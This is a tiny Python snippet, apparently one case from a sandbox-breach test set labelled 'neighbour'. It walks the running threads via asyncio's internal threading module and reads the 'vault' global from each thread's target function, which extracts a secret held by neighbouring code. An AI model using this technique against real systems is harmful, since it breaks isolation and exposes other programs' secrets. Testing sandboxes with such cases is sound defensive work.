# The target of a neighbour's thread, by threading.enumerate.
# breach: neighbour
import asyncio
threading = asyncio.base_events.threading
[getattr(thread, "_target", None).__globals__["vault"] for thread in threading.enumerate()
 if getattr(thread, "_target", None)]
